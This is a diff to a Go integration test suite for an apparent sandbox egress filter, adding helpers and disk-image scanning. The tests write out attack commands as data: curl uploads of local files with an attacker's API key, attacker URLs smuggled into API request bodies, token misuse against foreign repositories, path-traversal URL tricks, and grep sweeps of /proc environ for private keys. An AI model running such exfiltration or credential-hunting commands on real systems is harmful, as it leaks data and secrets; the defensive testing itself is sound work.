@@ -10,13 +10,16 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
+	"io"
 	"io/fs"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
-	"github.com/carrel-vm/carrel/guest/api"
+	"golang.org/x/sys/unix"
+
 	"github.com/carrel-vm/carrel/guest/egress/egresstest"
 )
 
@@ -30,7 +33,7 @@ func testEgressFilesAPI(t *testing.T, s *site) {
 		files  = " https://api.anthropic.com/v1/files "
 	)
 	s.net.API.Reset()
-	for _, how := range []string{
+	for _, how := range few(s, 2, []string{
 		`-H "x-api-key: ` + egresstest.AttackerKey + `" -F file=@/tmp/file` + files,
 		`-H "X-API-KEY: ` + egresstest.AttackerKey + `" --data-binary @/tmp/file` + files,
 		`-H "Authorization: Bearer ` + egresstest.AttackerKey + `" --data-binary @/tmp/file` + files,
@@ -38,7 +41,7 @@ func testEgressFilesAPI(t *testing.T, s *site) {
 		`--path-as-is --data-binary @/tmp/file -H "x-api-key: ` + egresstest.AttackerKey + `" https://api.anthropic.com/v1/%66iles`,
 		`--data-binary @/tmp/file "https://api.anthropic.com/v1/files?api_key=` + egresstest.AttackerKey + `"`,
 		`--data-binary @/tmp/file` + files,
-	} {
+	}) {
 		got := s.sh(t, upload+how)
 		if !strings.HasSuffix(got, " 403\n") && !strings.HasSuffix(got, " 400\n") {
 			t.Errorf("%s: %s", how, got)
@@ -60,11 +63,11 @@ func testEgressFilesAPI(t *testing.T, s *site) {
 		t.Error("the attacker's key arrived")
 	}
 	// The same inside a body that the API would act on.
-	for _, body := range []string{
+	for _, body := range few(s, 1, []string{
 		`{"messages":[],"mcp_servers":[{"url":"https://` + egresstest.Attacker + `"}]}`,
 		`{"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
 		`{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://` + egresstest.Attacker + `"}}]}]}`,
-	} {
+	}) {
 		if got := s.sh(t, `curl -sS -m 20 -w ' %{http_code}' -H "content-type: application/json" -d '`+body+`' https://api.anthropic.com/v1/messages`); !strings.HasSuffix(got, " 403") {
 			t.Errorf("C08: %s: %s", body, got)
 		}
@@ -76,17 +79,14 @@ func testEgressFilesAPI(t *testing.T, s *site) {
 
 	// The control, in a guest without the secret: a plain rule lets the attack
 	// through.
-	box := s.guest
-	defer func() { s.guest = box }()
-	s.guest = "naive"
-	s.box(t, s.guest, &api.EgressSpec{Rules: []*api.EgressRule{{Action: api.EgressAction_EGRESS_ACTION_ALLOW, Host: "api.anthropic.com"}}})
-	defer s.remove(t, s.guest)
 	s.net.API.Reset()
-	got := s.sh(t, upload+`-H "x-api-key: `+egresstest.AttackerKey+`" --data-binary @/tmp/file`+files)
-	sum := sha256.Sum256([]byte(file))
-	if calls := s.net.API.Calls(); len(calls) != 1 || calls[0].Key != egresstest.AttackerKey || calls[0].Sum != hex.EncodeToString(sum[:]) {
-		t.Errorf("control: %v\n%s", calls, got)
-	}
+	s.other(t, func() {
+		got := s.sh(t, upload+`-H "x-api-key: `+egresstest.AttackerKey+`" --data-binary @/tmp/file`+files)
+		sum := sha256.Sum256([]byte(file))
+		if calls := s.net.API.Calls(); len(calls) != 1 || calls[0].Key != egresstest.AttackerKey || calls[0].Sum != hex.EncodeToString(sum[:]) {
+			t.Errorf("control: %v\n%s", calls, got)
+		}
+	})
 }
 
 // git clones and pushes with a token that is not in the guest, to the repository
@@ -110,12 +110,12 @@ func testEgressGitToken(t *testing.T, s *site) {
 	if !strings.Contains(got, "full_name") {
 		t.Errorf("the API: %s", got)
 	}
-	for _, x := range []string{
+	for _, x := range few(s, 1, []string{
 		`GIT_TERMINAL_PROMPT=0 git clone -q https://github.com/` + egresstest.ForeignRepository + ` /tmp/foreign; cat /tmp/foreign/README`,
 		`GIT_TERMINAL_PROMPT=0 git clone -q https://x:$GITHUB_TOKEN@github.com/` + egresstest.ForeignRepository + ` /tmp/foreign; cat /tmp/foreign/README`,
 		`curl -sS -u x:$GITHUB_TOKEN https://github.com/` + egresstest.PrivateRepository + `/../foreign.git/info/refs?service=git-upload-pack --path-as-is`,
 		`curl -sS https://api.github.com/repos/` + egresstest.ForeignRepository,
-	} {
+	}) {
 		if got := s.sh(t, x); strings.Contains(got, egresstest.GitContent) || strings.Contains(got, "full_name") || strings.Contains(got, "refs/heads") {
 			t.Errorf("%s: %s", x, got)
 		}
@@ -131,10 +131,10 @@ func testEgressGitToken(t *testing.T, s *site) {
 func testEgressPlaceholder(t *testing.T, s *site) {
 	s.net.Host(egresstest.Echo).Reset()
 	since := s.last(t)
-	for _, x := range []string{
+	for _, x := range few(s, 2, []string{
 		`-H "x-key: $ANTHROPIC_API_KEY"`, `-H "Authorization: Bearer $GITHUB_TOKEN"`, `-u "x:$GITHUB_TOKEN"`, `-d "k=$ANTHROPIC_API_KEY"`,
 		`-G -d "k=$ANTHROPIC_API_KEY"`,
-	} {
+	}) {
 		if got := s.sh(t, `curl -sS -m 20 -w ' %{http_code}\n' `+x+` https://`+egresstest.Echo+`/`); !strings.HasSuffix(got, " 403\n") && !strings.Contains(got, "curl: (") {
 			t.Errorf("%s: %s", x, got)
 		}
@@ -159,7 +159,7 @@ func testEgressPlaceholder(t *testing.T, s *site) {
 	}
 	// C10: never in clear text.
 	for _, x := range []string{"http://api.anthropic.com/v1/models", "http://github.com/" + egresstest.PrivateRepository + ".git/info/refs?service=git-upload-pack"} {
-		s.sh(t, "curl -sS -m 20 "+x)
+		s.plain(t, "get", x)
 	}
 	for _, h := range []string{"api.anthropic.com", "github.com"} {
 		for _, r := range s.net.Host(h).Requests() {
@@ -176,7 +176,7 @@ func testEgressCAKey(t *testing.T, s *site) {
 	// How the two PEM forms of a P-256 key begin, which an authority's is.
 	forms := []string{"MHcCAQEEI", "MIGHAgEAM"}
 	// Tasks' arguments are on record: they must not hold what is looked for.
-	look := "grep -rlsa -e MHcCAQEE[I] -e MIGHAgEA[M] /etc /run /home /root /tmp /var /carrel /usr/local/etc /usr/local/share /dev/shm /proc/[0-9]*/environ | head; echo looked"
+	look := "grep -rlsa --exclude-dir=go-build -e MHcCAQEE[I] -e MIGHAgEA[M] /etc /run /home /root /tmp /var /carrel /usr/local/etc /usr/local/share /dev/shm /proc/[0-9]*/environ | head; echo looked"
 	if r := s.root(t, look); r != "looked\n" {
 		t.Errorf("private keys: %s", r)
 	}
@@ -192,7 +192,7 @@ func testEgressCAKey(t *testing.T, s *site) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for i, der := range [][]byte{sec1, pkcs8} {
+	for i, der := range few(s, 1, [][]byte{sec1, pkcs8}) {
 		pem := base64.StdEncoding.EncodeToString(der)
 		if !strings.HasPrefix(pem, forms[i]) {
 			t.Fatalf("a key begins with %.12s", pem)
@@ -202,11 +202,7 @@ func testEgressCAKey(t *testing.T, s *site) {
 			t.Errorf("control: %s", r)
 		}
 	}
-	issuer := func() string {
-		return s.sh(t, `curl -sS -v https://`+egresstest.Second+`/ 2>&1 | grep -a issuer; node -p 'JSON.stringify(process.env.NODE_EXTRA_CA_CERTS || "")' >/dev/null
-			python3 -c 'import ssl; s = ssl.create_default_context().wrap_socket(__import__("socket").create_connection(("`+egresstest.Second+`", 443)), server_hostname="`+egresstest.Second+`"); import hashlib; print(hashlib.sha256(s.getpeercert(True)).hexdigest())'`)
-	}
-	if got := issuer(); !strings.Contains(got, "issuer") || strings.Contains(got, "Carrel's test world") {
+	if got := s.sh(t, "curl -sS -v https://"+egresstest.Second+"/ 2>&1 | grep -a issuer"); !strings.Contains(got, "issuer") || strings.Contains(got, "Carrel's test world") {
 		t.Errorf("the inspected host's certificate: %s", got)
 	}
 	// The host: whoever shows a certificate of the guest's authority there is
@@ -234,17 +230,21 @@ func testEgressSecretAbsent(t *testing.T, s *site) {
 	if !s.net.Host("api.anthropic.com").Saw(egresstest.OwnKey) || len(s.net.Host("github.com").Requests()) == 0 {
 		t.Error("control: the secrets were not used")
 	}
-	if got := s.root(t, "/tools/plain scan /tools/needles"); strings.Contains(got, "FOUND") || !strings.Contains(got, "found 0") {
+	scan := "/tools/plain scan "
+	if s.boundary == "vm" {
+		scan = "/tools/plain scan-files " // memory is looked at from outside, at the host's own speed
+	}
+	if got := s.root(t, scan+"/tools/needles"); strings.Contains(got, "FOUND") || !strings.Contains(got, "found 0") {
 		t.Errorf("in the guest:\n%s", got)
 	} else {
 		t.Logf("in the guest: %s", strings.TrimSpace(got))
 	}
-	got := s.root(t, `export WORD=`+planted+`; echo $WORD > /tmp/planted; /tools/plain scan /tools/control; rm /tmp/planted`)
-	if !strings.Contains(got, "environ") || !strings.Contains(got, "/mem ") || !strings.Contains(got, "/tmp/planted") {
+	got := s.root(t, `export WORD=`+planted+`; echo $WORD > /tmp/planted; `+scan+`/tools/control; rm /tmp/planted`)
+	if !strings.Contains(got, "environ") || s.boundary != "vm" && !strings.Contains(got, "/mem ") || !strings.Contains(got, "/tmp/planted") {
 		t.Errorf("control: %s", got)
 	}
 	// From outside: every process that has the guest's memory, and the keeper.
-	s.sh(t, "echo "+planted+" > /tmp/outside; cat /tmp/outside > /dev/null")
+	s.sh(t, "echo "+planted+" > ~/outside; sync; cat ~/outside > /dev/null")
 	keeper := s.keeper(t)
 	pids := map[string]int{"keeper": keeper}
 	if s.boundary == "vm" {
@@ -264,6 +264,12 @@ func testEgressSecretAbsent(t *testing.T, s *site) {
 	}
 	if _, found := searchMemory(t, s.edge(t, s.guest), secrets); !found[egresstest.OwnKey] {
 		t.Error("control: the egress process does not hold what it adds to requests")
+	}
+	if s.boundary == "vm" {
+		disk := inDisk(t, filepath.Join(s.home, "state", "guests", s.guest, "scratch.img"), append(append([]string(nil), secrets...), planted))
+		if disk[secrets[0]] || disk[secrets[1]] || !disk[planted] {
+			t.Errorf("on the guest's disk: %v", disk)
+		}
 	}
 	for _, x := range secrets {
 		for _, form := range egresstest.Forms(x) {
@@ -324,40 +330,72 @@ func inTree(t *testing.T, top, word string) (found bool) {
 func searchMemory(t *testing.T, pid int, words []string) (n int64, found map[string]bool) {
 	t.Helper()
 	found = map[string]bool{}
-	maps := read(t, fmt.Sprintf("/proc/%d/maps", pid))
 	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer mem.Close()
-	const overlap = 256
-	buf := make([]byte, overlap+4<<20)
-	for l := range strings.Lines(maps) {
+	for l := range strings.Lines(read(t, fmt.Sprintf("/proc/%d/maps", pid))) {
 		var from, to int64
 		var perm string
-		if _, err := fmt.Sscanf(l, "%x-%x %s", &from, &to, &perm); err != nil || !strings.HasPrefix(perm, "rw") {
-			continue
-		}
-		kept := 0
-		for at := from; at < to; {
-			m, err := mem.ReadAt(buf[kept:min(int64(len(buf)), int64(kept)+to-at)], at)
-			if m == 0 {
-				if err != nil {
-					at += 4096 // nothing is there
-					kept = 0
-					continue
-				}
-				break
-			}
-			n, at = n+int64(m), at+int64(m)
-			have := buf[:kept+m]
-			for _, w := range words {
-				for _, form := range egresstest.Forms(w) {
-					found[w] = found[w] || bytes.Contains(have, []byte(form))
-				}
-			}
-			kept = copy(buf, have[max(0, len(have)-overlap):])
+		if _, err := fmt.Sscanf(l, "%x-%x %s", &from, &to, &perm); err == nil && strings.HasPrefix(perm, "rw") {
+			n += search(mem, from, to, words, found)
 		}
 	}
 	return n, found
+}
+
+// inDisk looks for words in a disk's image.
+func inDisk(t *testing.T, file string, words []string) map[string]bool {
+	t.Helper()
+	f, err := os.Open(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	fi, err := f.Stat()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := map[string]bool{}
+	for at := int64(0); at < fi.Size(); {
+		from, err := unix.Seek(int(f.Fd()), at, unix.SEEK_DATA)
+		if err != nil {
+			break // the rest is a hole
+		}
+		to, err := unix.Seek(int(f.Fd()), from, unix.SEEK_HOLE)
+		if err != nil {
+			t.Fatal(err)
+		}
+		search(f, from, to, words, found)
+		at = to
+	}
+	return found
+}
+
+// search reads a range page by page where it has to, goes on behind what is not
+// there, and returns how many bytes it saw.
+func search(r io.ReaderAt, from, to int64, words []string, found map[string]bool) (n int64) {
+	const overlap = 256
+	buf := make([]byte, overlap+1<<20)
+	kept := 0
+	for at := from; at < to; {
+		m, err := r.ReadAt(buf[kept:min(int64(len(buf)), int64(kept)+to-at)], at)
+		if m == 0 {
+			if err == nil || err == io.EOF {
+				break
+			}
+			at, kept = at+4096, 0
+			continue
+		}
+		n, at = n+int64(m), at+int64(m)
+		have := buf[:kept+m]
+		for _, w := range words {
+			if !found[w] {
+				found[w] = slices.ContainsFunc(egresstest.Forms(w), func(f string) bool { return bytes.Contains(have, []byte(f)) })
+			}
+		}
+		kept = copy(buf, have[max(0, len(have)-overlap):])
+	}
+	return n
 }
